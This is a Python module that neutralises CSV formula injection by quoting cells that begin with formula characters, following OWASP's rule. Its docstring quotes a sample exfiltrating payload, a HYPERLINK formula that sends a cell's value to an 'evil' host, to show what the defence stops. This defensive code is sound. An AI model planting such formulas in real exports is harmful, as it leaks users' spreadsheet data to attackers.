"""CSV cells that a spreadsheet cannot run: every CSV export writes through :class:`SafeCsvWriter`.

Names in exports come from devices (agent, model, session ids) or admins (device names): a cell
such as ``=HYPERLINK("http://evil/?"&A1)`` or ``@SUM(…)`` is a formula to Excel, LibreOffice and
Google Sheets. OWASP's rule ("CSV Injection"): a text cell that begins with ``=``, ``+``, ``-``,
``@``, a tab or a carriage return gets a leading single quote, which spreadsheets show as text.
Numbers are written as they are (a negative number is not text).
"""

from __future__ import annotations

import csv
from collections.abc import Iterable
from typing import Any, TextIO

FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")
"""First characters that make a spreadsheet read a cell as a formula (OWASP)."""


def safe_cell(value: Any) -> Any:
    """``value`` unchanged unless it is a string starting with one of :data:`FORMULA_STARTS`; then
    ``"'" + value``. Non-strings (int, float, None) pass through."""
    if isinstance(value, str) and value.startswith(FORMULA_STARTS):
        return "'" + value
    return value


def unsafe_cell(text: str) -> str:
    """Undo :func:`safe_cell` for a parsed cell (round trips in tests and re-imports)."""
    if text.startswith("'") and text[1:2] and text[1:].startswith(FORMULA_STARTS):
        return text[1:]
    return text


class SafeCsvWriter:
    """``csv.writer`` whose rows go through :func:`safe_cell` (same ``writerow``/``writerows``).

    Args:
        out: the text stream (open with ``newline=""`` when it is a file).
        **fmt: ``csv.writer`` format parameters (e.g. ``lineterminator="\\n"``).
    """

    def __init__(self, out: TextIO, **fmt: Any) -> None:
        self._writer = csv.writer(out, **fmt)

    def writerow(self, row: Iterable[Any]) -> Any:
        """Write one row, neutralising its text cells."""
        return self._writer.writerow([safe_cell(v) for v in row])

    def writerows(self, rows: Iterable[Iterable[Any]]) -> None:
        """Write several rows."""
        for row in rows:
            self.writerow(row)
